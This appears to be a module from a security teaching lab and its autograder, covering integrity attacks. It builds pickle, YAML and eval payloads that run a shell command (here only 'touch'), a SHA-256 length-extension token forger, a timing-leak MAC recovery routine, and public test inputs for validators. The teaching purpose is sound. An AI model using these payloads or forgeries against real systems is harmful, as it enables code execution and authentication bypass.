"""Integrity attacks: malicious pickles and YAML, cookie tampering, MAC forgery, rollback.

Every payload here only creates a marker file (``touch``); the lesson points them at
its scratch folder, the grader at a fresh temporary folder in its sandbox.
"""

from __future__ import annotations

import hmac
import os
import pickle  # builds payloads; this module never unpickles anything  # nosec B403
import shlex
import struct
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from seclab.attacks import AttackResult

# --- code execution through deserialisation ----------------------------------------------------


class _RunsCommand:
    """Pickles to "call os.system(command)": __reduce__ names any callable and its arguments."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (self.command,)


def touch_command(marker: str | Path) -> str:
    """A shell command that only creates the (empty) file ``marker``."""
    return f"touch {shlex.quote(str(marker))}"


def malicious_pickle(marker: str | Path, protocol: int = pickle.DEFAULT_PROTOCOL) -> bytes:
    """A pickle that creates ``marker`` when it is unpickled (and nothing else)."""
    return pickle.dumps(_RunsCommand(touch_command(marker)), protocol=protocol)


def malicious_yaml(marker: str | Path) -> str:
    """A YAML document that creates ``marker`` when an unsafe loader reads it."""
    return f'theme: dark\nplugins: !!python/object/apply:os.system ["{touch_command(marker)}"]\n'


def marker_created(marker: Path, payload: str) -> AttackResult:
    """Judge a code-execution attack by the file it was meant to create."""
    if marker.exists():
        return AttackResult(payload, True, f"the payload ran: {marker.name} exists")
    return AttackResult(payload, False, f"nothing ran: {marker.name} does not exist")


# --- editing client-side data --------------------------------------------------------------------

def became_admin(status: int, body: object) -> AttackResult:
    """Judge a cookie edit by what ``GET /admin`` answered."""
    if status == 200:
        return AttackResult("edited cookie", True, f"HTTP 200: read the admin page ({body})")
    return AttackResult("edited cookie", False, f"HTTP {status}: {body}")


# --- SHA-256 in pure Python, resumable from a digest: the length-extension attack --------------

_K = (
    0x428A2F98, 0x71374491, 0xB5C0FBCF, 0xE9B5DBA5, 0x3956C25B, 0x59F111F1, 0x923F82A4, 0xAB1C5ED5,
    0xD807AA98, 0x12835B01, 0x243185BE, 0x550C7DC3, 0x72BE5D74, 0x80DEB1FE, 0x9BDC06A7, 0xC19BF174,
    0xE49B69C1, 0xEFBE4786, 0x0FC19DC6, 0x240CA1CC, 0x2DE92C6F, 0x4A7484AA, 0x5CB0A9DC, 0x76F988DA,
    0x983E5152, 0xA831C66D, 0xB00327C8, 0xBF597FC7, 0xC6E00BF3, 0xD5A79147, 0x06CA6351, 0x14292967,
    0x27B70A85, 0x2E1B2138, 0x4D2C6DFC, 0x53380D13, 0x650A7354, 0x766A0ABB, 0x81C2C92E, 0x92722C85,
    0xA2BFE8A1, 0xA81A664B, 0xC24B8B70, 0xC76C51A3, 0xD192E819, 0xD6990624, 0xF40E3585, 0x106AA070,
    0x19A4C116, 0x1E376C08, 0x2748774C, 0x34B0BCB5, 0x391C0CB3, 0x4ED8AA4A, 0x5B9CCA4F, 0x682E6FF3,
    0x748F82EE, 0x78A5636F, 0x84C87814, 0x8CC70208, 0x90BEFFFA, 0xA4506CEB, 0xBEF9A3F7, 0xC67178F2,
)
_INITIAL_STATE = (0x6A09E667, 0xBB67AE85, 0x3C6EF372, 0xA54FF53A, 0x510E527F, 0x9B05688C, 0x1F83D9AB, 0x5BE0CD19)
_MASK = 0xFFFFFFFF


def _rotate_right(value: int, bits: int) -> int:
    return ((value >> bits) | (value << (32 - bits))) & _MASK


def _compress(state: tuple[int, ...], block: bytes) -> tuple[int, ...]:
    """One SHA-256 compression: the state after absorbing one 64-byte block."""
    words = list(struct.unpack(">16I", block))
    for i in range(16, 64):
        s0 = _rotate_right(words[i - 15], 7) ^ _rotate_right(words[i - 15], 18) ^ (words[i - 15] >> 3)
        s1 = _rotate_right(words[i - 2], 17) ^ _rotate_right(words[i - 2], 19) ^ (words[i - 2] >> 10)
        words.append((words[i - 16] + s0 + words[i - 7] + s1) & _MASK)
    a, b, c, d, e, f, g, h = state
    for i in range(64):
        s1 = _rotate_right(e, 6) ^ _rotate_right(e, 11) ^ _rotate_right(e, 25)
        choice = (e & f) ^ (~e & g)
        temp1 = (h + s1 + choice + _K[i] + words[i]) & _MASK
        s0 = _rotate_right(a, 2) ^ _rotate_right(a, 13) ^ _rotate_right(a, 22)
        majority = (a & b) ^ (a & c) ^ (b & c)
        a, b, c, d, e, f, g, h = (temp1 + s0 + majority) & _MASK, a, b, c, (d + temp1) & _MASK, e, f, g
    return tuple((x + y) & _MASK for x, y in zip(state, (a, b, c, d, e, f, g, h), strict=True))


def sha256_padding(message_length: int) -> bytes:
    """The bytes SHA-256 appends to a message of ``message_length`` bytes before hashing it."""
    return b"\x80" + b"\x00" * ((55 - message_length) % 64) + struct.pack(">Q", message_length * 8)


def pure_sha256(message: bytes, state: tuple[int, ...] = _INITIAL_STATE, absorbed: int = 0) -> bytes:
    """SHA-256 of ``message``; with ``state``, continue a hash that has already absorbed ``absorbed`` bytes."""
    padded = message + sha256_padding(absorbed + len(message))
    for start in range(0, len(padded), 64):
        state = _compress(state, padded[start:start + 64])
    return struct.pack(">8I", *state)


def extend_sha256(digest: bytes, hashed_length: int, suffix: bytes) -> tuple[bytes, bytes]:
    """Length extension: forge the digest of a longer input from a SHA-256 digest alone.

    ``digest`` is ``sha256(secret + message)`` and ``hashed_length`` the length of
    ``secret + message``. Returns ``(glue, forged)`` with
    ``forged == sha256(secret + message + glue + suffix)``: ``glue`` is SHA-256's own
    padding of the original input. The secret itself is never needed, only its length.
    """
    glue = sha256_padding(hashed_length)
    state = struct.unpack(">8I", digest)
    return glue, pure_sha256(suffix, state, hashed_length + len(glue))


@dataclass(frozen=True)
class Forgery:
    """A forged ``message.mac`` token and the key length it assumed."""

    token: str
    message: bytes
    key_length: int


def forge_extended_token(token: str, suffix: bytes, key_length: int) -> Forgery:
    """Extend a ``b64url(message).hex(sha256(key + message))`` token by ``suffix`` without the key."""
    from seclab.topics.integrity.targets import b64url_decode, b64url_encode

    encoded, _, mac_hex = token.rpartition(".")
    message = b64url_decode(encoded)
    glue, forged = extend_sha256(bytes.fromhex(mac_hex), key_length + len(message), suffix)
    longer = message + glue + suffix
    return Forgery(f"{b64url_encode(longer)}.{forged.hex()}", longer, key_length)


def forge_with_any_key_length(token: str, suffix: bytes, accepts: Callable[[str], bool],
                              lengths: range = range(1, 65)) -> Forgery | None:
    """Try every plausible key length, as an attacker does; the first forgery ``accepts`` takes."""
    for length in lengths:
        forgery = forge_extended_token(token, suffix, length)
        if accepts(forgery.token):
            return forgery
    return None


# --- timing: what == on a MAC gives away ---------------------------------------------------------

def early_exit_compare(expected: bytes, given: bytes) -> tuple[bool, int]:
    """Compare the way == does, byte by byte, stopping at the first difference.

    Also returns how many bytes it looked at: the work, and so the time, that a caller
    can measure. (CPython's == on bytes does the same inside memcmp, only faster.)
    """
    if len(expected) != len(given):
        return False, 0
    for position, (left, right) in enumerate(zip(expected, given, strict=True)):
        if left != right:
            return False, position + 1
    return True, len(expected)


def recover_mac_from_leak(verifier: Callable[[bytes], tuple[bool, int]], length: int = 32) -> tuple[bytes, int]:
    """Find a valid MAC byte by byte from a verifier that leaks how far its comparison got.

    ``verifier(candidate)`` answers (accepted, bytes examined), as ``early_exit_compare``
    does. Returns the MAC and the number of guesses: at most ``256 * length``, where
    guessing blindly needs ``256 ** length``.
    """
    known = b""
    guesses = 0
    for position in range(length):
        tail = b"\x00" * (length - position - 1)
        for value in range(256):
            guesses += 1
            accepted, examined = verifier(known + bytes([value]) + tail)
            if accepted or examined > position + 1:  # the comparison got past this byte
                known += bytes([value])
                break
        else:
            raise ValueError(f"no byte value fits at position {position}")
    return known, guesses


@dataclass(frozen=True)
class CompareTimings:
    """Best-of-N seconds per comparison of two ``size``-byte values differing in the first or last byte."""

    size: int
    equals_first: float
    equals_last: float
    digest_first: float
    digest_last: float


def time_comparisons(size: int = 1 << 20, rounds: int = 7, calls: int = 50) -> CompareTimings:
    """Measure == and hmac.compare_digest when the difference is early and when it is late.

    Each round times all four cases one after the other, and each case keeps its best
    round, so that a busy machine slows none of them more than the others.
    """
    secret = os.urandom(size)
    first = bytes([secret[0] ^ 1]) + secret[1:]
    last = secret[:-1] + bytes([secret[-1] ^ 1])

    def equals(left: bytes, right: bytes) -> bool:
        return left == right

    slow_calls = max(1, calls // 10)  # compare_digest always reads everything: fewer calls give a clear timing
    cases: list[tuple[Callable[[bytes, bytes], bool], bytes, int]] = [
        (equals, first, calls), (equals, last, calls),
        (hmac.compare_digest, first, slow_calls), (hmac.compare_digest, last, slow_calls)]
    best = [float("inf")] * len(cases)
    for _ in range(rounds):
        for index, (compare, other, repeat) in enumerate(cases):
            start = time.perf_counter()
            for _ in range(repeat):
                compare(secret, other)
            best[index] = min(best[index], (time.perf_counter() - start) / repeat)
    return CompareTimings(size, *best)


# --- the exercise's public payloads (the hidden ones are in autograder/hidden/08_integrity.json) --

#: Strings that are not tokens anyone signed; unsign must raise ValueError for each.
MALFORMED_TOKENS = [
    "",
    ".",
    "..",
    "not a token",
    "eyJ1c2VyIjoiYWRtaW4iLCJyb2xlIjoiYWRtaW4ifQ",
    "eyJ1c2VyIjoiYWRtaW4iLCJyb2xlIjoiYWRtaW4ifQ.",
    ".eyJ1c2VyIjoiYWRtaW4iLCJyb2xlIjoiYWRtaW4ifQ",
    "eyJhbGciOiJub25lIn0.eyJ1c2VyIjoiYWRtaW4ifQ.",
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
    "%7B%22role%22%3A%22admin%22%7D",
    "é.é",
]

#: A valid profile, for the public visible tests.
VALID_PROFILE = b'{"name": "Ada Lovelace", "age": 36, "email": "ada@example.com"}'

#: Profiles load_profile must refuse, by what is wrong with them (text, sent as UTF-8 bytes).
BAD_PROFILES: dict[str, list[str]] = {
    "json-syntax": [
        "",
        "{'name': 'Ada', 'age': 36, 'email': 'ada@example.com'}",
        '{"name": "Ada", "age": 36, "email": "ada@example.com",}',
        '{"name": "Ada", "age": NaN, "email": "ada@example.com"}',
        '{"name": "Ada", "age": 36, "email": "ada@example.com"} {}',
        '{"name": "Ada", "age": 36, "email": "ada@example.com"}x',
        "name: Ada\nage: 36\nemail: ada@example.com\n",
    ],
    "duplicate-key": [
        '{"name": "Ada", "age": 36, "email": "ada@example.com", "age": 151}',
        '{"name": "Ada", "name": "Grace", "age": 36, "email": "ada@example.com"}',
    ],
    "shape": [
        '["Ada", 36, "ada@example.com"]',
        '"Ada"',
        "null",
        '{"name": "Ada", "age": 36}',
        '{"name": "Ada", "age": 36, "email": "ada@example.com", "admin": true}',
    ],
    "types": [
        '{"name": "Ada", "age": true, "email": "ada@example.com"}',
        '{"name": "Ada", "age": "36", "email": "ada@example.com"}',
        '{"name": "Ada", "age": 36.0, "email": "ada@example.com"}',
        '{"name": "Ada", "age": 1e2, "email": "ada@example.com"}',
        '{"name": 42, "age": 36, "email": "ada@example.com"}',
        '{"name": "Ada", "age": 36, "email": null}',
    ],
    "range": [
        '{"name": "", "age": 36, "email": "ada@example.com"}',
        '{"name": "' + "A" * 51 + '", "age": 36, "email": "ada@example.com"}',
        '{"name": "Ada", "age": -1, "email": "ada@example.com"}',
        '{"name": "Ada", "age": 151, "email": "ada@example.com"}',
        '{"name": "Ada", "age": 36, "email": "' + "a" * 243 + '@example.com"}',
    ],
    "email": [
        '{"name": "Ada", "age": 36, "email": "ada.example.com"}',
        '{"name": "Ada", "age": 36, "email": "ada@@example.com"}',
        '{"name": "Ada", "age": 36, "email": "@example.com"}',
        '{"name": "Ada", "age": 36, "email": "ada@"}',
        '{"name": "Ada", "age": 36, "email": "ada lovelace@example.com"}',
        '{"name": "Ada", "age": 36, "email": "ada@example.com\\n"}',
    ],
}

#: Profiles as raw bytes (hex) that are not UTF-8 text load_profile may read.
BAD_PROFILE_BYTES: list[bytes] = [
    b"\xef\xbb\xbf" + VALID_PROFILE,
    VALID_PROFILE.decode().encode("utf-16"),
    VALID_PROFILE.decode().encode("utf-32-le"),
    VALID_PROFILE.replace(b"Ada Lovelace", b"Ada \xff Lovelace"),
]

#: Nesting deeper than json.loads can follow: (before, opener, closer, depth, after).
DEEP_PROFILES: list[tuple[str, str, str, int, str]] = [
    ('{"name": ', "[", "]", 100_000, ', "age": 36, "email": "ada@example.com"}'),
]


def code_payloads(marker: str = "pwned") -> list[bytes]:
    """Bytes that run code creating ``marker`` if a loader unpickles, unsafe-YAML-loads or evals them."""
    return [
        malicious_pickle(marker),
        malicious_pickle(marker, protocol=0),
        malicious_yaml(marker).encode(),
        f"__import__('os').system({touch_command(marker)!r})".encode(),
    ]


GOOD_UPDATE_URL = "https://updates.example.com/app-2.0.whl"

#: Changes to a correct manifest's signature or key that check_update must refuse.
BAD_SIGNATURES = ["other-signer", "wrong-public-key", "edited-after-signing", "truncated-signature",
                  "empty-signature", "short-public-key"]

#: Manifests, correctly signed, that are not what check_update accepts.
BAD_MANIFESTS = [
    "",
    "not json",
    '["2.0", "https://updates.example.com/app-2.0.whl"]',
    '{"version": "2.0", "url": "https://updates.example.com/app-2.0.whl"}',
    '{"version": 2.0, "url": "https://updates.example.com/app-2.0.whl", "sha256": "' + "ab" * 32 + '"}',
    '{"version": "2.0", "url": "https://updates.example.com/app-2.0.whl", "sha256": "' + "ab" * 32
    + '", "mirror": "https://evil.example.net/"}',
]

#: Release URLs check_update must refuse.
BAD_URLS = ["http://updates.example.com/app-2.0.whl", "ftp://updates.example.com/app-2.0.whl",
            "file:///tmp/app-2.0.whl", "https:///app-2.0.whl", "//updates.example.com/app-2.0.whl",
            "updates.example.com/app-2.0.whl"]

#: sha256 values that are not 64 lowercase hex characters.
BAD_DIGESTS = ["AB" * 32, "ab" * 31, "ab" * 33, "ab" * 31 + "zz", "ab" * 32 + "\n", "0x" + "ab" * 31]

#: Versions that are not PEP 440 versions.
BAD_VERSIONS = ["latest", "", "2.0 final", "two"]

#: (offered version, installed version): not newer, so a rollback or a freeze.
ROLLBACKS = [("1.0", "1.0"), ("0.9", "1.0"), ("1.0.0", "1.0"), ("2.0rc1", "2.0"), ("9.9", "10.0")]
